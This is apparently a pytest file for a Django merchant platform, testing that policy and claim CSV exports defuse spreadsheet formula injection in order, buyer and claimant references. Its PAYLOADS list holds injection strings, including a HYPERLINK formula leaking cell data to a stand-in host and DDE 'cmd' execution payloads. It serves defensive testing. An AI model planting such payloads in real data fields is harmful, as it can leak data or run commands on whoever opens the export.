"""CSV exports: text that came from outside (order, buyer and claimant references) never reaches
a spreadsheet as a formula; the numbers the platform writes stay numbers."""

import csv
import io
from decimal import Decimal

import pytest
from django.test import Client

from claims.services import claim_submit
from config.streaming import csv_response
from tests.factories import MerchantFactory
from tests.web.conftest import PASSWORD, issue, merchant_user

pytestmark = pytest.mark.django_db

# What a checkout system (or whoever feeds it) may send as a reference: each one a formula or
# a command to a spreadsheet that opens the export.
PAYLOADS = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Details")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def shop():
    return MerchantFactory(name="Formula Fruit")


@pytest.fixture
def owner(shop) -> Client:
    merchant_user(shop, "formula-owner")
    client = Client()
    client.login(username="formula-owner", password=PASSWORD)
    return client


def exported(response) -> list[dict]:
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline="")))


def assert_defused(cell: str, payload: str) -> None:
    assert not cell.startswith(FORMULA_STARTS), repr(cell)
    assert cell.startswith("'"), repr(cell)
    assert payload.replace("|", "") in cell.replace("\\|", "").replace("|", ""), repr(cell)


def test_the_policy_export_defuses_formulas_in_order_and_buyer_references(owner, shop):
    policies = {issue(shop, payload, buyer=payload).pk: payload for payload in PAYLOADS}

    rows = exported(owner.get("/merchant/policies/", {"export": "csv"}))

    assert len(rows) == len(PAYLOADS)
    for row in rows:
        payload = policies[int(row["id"])]
        assert_defused(row["order_ref"], payload)
        assert_defused(row["buyer_ref"], payload)
        # Amounts are the platform's own numbers: written as plain numbers.
        assert Decimal(row["premium"]) > 0
        assert Decimal(row["exposure_amount"]) == Decimal("200.00")


def test_the_claim_export_defuses_formulas_in_order_and_claimant_references(owner, shop):
    claims = {}
    for payload in PAYLOADS:
        policy = issue(shop, payload, buyer=payload)
        claim = claim_submit(
            merchant=shop,
            policy_id=policy.pk,
            claimant_ref=payload,
            amount=Decimal("20.00"),
            description="",
            photos=[],
            actor="test",
        )
        claims[claim.pk] = payload

    rows = exported(owner.get("/merchant/claims/", {"export": "csv"}))

    assert len(rows) == len(PAYLOADS)
    for row in rows:
        payload = claims[int(row["id"])]
        assert_defused(row["order_ref"], payload)
        assert_defused(row["claimant_ref"], payload)
        assert row["amount"] == "20.00"


def test_numbers_the_platform_writes_stay_numbers_even_negative():
    response = csv_response(
        filename="x.csv",
        header=["amount", "count", "refund", "note"],
        rows=[[Decimal("-12.50"), -3, Decimal("0.00"), "-12.50"]],
    )

    rows = exported(response)

    # Negative money written by the platform is a number, not text with a quote in front; text
    # that is only a number is not a formula either and stays as it is.
    assert rows == [{"amount": "-12.50", "count": "-3", "refund": "0.00", "note": "-12.50"}]
